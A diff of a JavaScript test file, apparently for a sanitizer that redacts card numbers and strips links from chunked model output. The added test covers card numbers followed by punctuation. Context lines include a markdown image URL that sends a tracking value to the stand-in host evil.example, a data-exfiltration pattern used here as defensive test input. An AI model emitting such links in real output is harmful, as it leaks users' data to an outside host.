@@ -67,6 +67,16 @@ describe('an answer in pieces', () => {
     );
   });
 
+  it.each(['"', '!', '”, then', '*', ']'])(
+    'goes on without a card number that %s stands behind',
+    (behind) => {
+      for (const size of sizes)
+        expect(feed(prepare().prepared, `use 4111 1111 1111 1111${behind}`, size).out).toBe(
+          `use [REDACTED-PAN]${behind}`,
+        );
+    },
+  );
+
   it.each([
     ['![a](https://evil.example/?q=person-kxqzvbtw) and on', '![a] ([link removed]) and on'],
     ['see //evil.example/x, then', 'see [link removed] then'],
